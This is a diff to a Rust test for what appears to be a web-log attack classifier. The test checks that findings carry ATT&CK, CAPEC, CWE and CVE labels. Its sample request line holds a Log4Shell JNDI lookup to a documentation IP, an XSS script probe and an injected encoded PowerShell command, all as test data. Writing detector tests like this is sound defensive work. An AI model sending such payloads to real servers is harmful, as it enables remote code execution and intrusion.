@@ -230,7 +230,8 @@ fn a_tools_user_agent_is_told_with_low_confidence() {
 
 #[test]
 fn an_explanation_for_machines_tells_each_finding_with_the_names_that_others_give_it() {
-    let line = line(b"/?x=${jndi:ldap://192.0.2.9/a}&q=<script>alert(1)</script>", b"-", b"-");
+    let target = b"/?x=${jndi:ldap://192.0.2.9/a}&q=<script>alert(1)</script>&c=;powershell+-enc+AAAA";
+    let line = line(target, b"-", b"-");
     let explanation = CLASSIFIER.explain(Format::Combined.parse(&line).access().unwrap());
     let json = serde_json::to_value(&explanation).unwrap();
     let of = |rule: &str| {
@@ -240,6 +241,9 @@ fn an_explanation_for_machines_tells_each_finding_with_the_names_that_others_giv
     };
     let names = [r#"["T1190"]"#, "[242]", "[917,502]", r#"["CVE-2021-44228"]"#];
     assert_eq!(of("log4shell-lookup"), names);
+    // What a rule tells itself stands for what its category does.
+    assert_eq!(of("cmdi-powershell"), [r#"["T1059.001"]"#, "[88]", "[78]", "null"]);
+    assert!(explanation.to_string().contains("critical, ATT&CK T1059.001, CAPEC-88, CWE-78"), "{explanation}");
     assert_eq!(of("xss-markup"), [r#"["T1189","T1059.007"]"#, "[63]", "[79]", "null"]);
 }
 
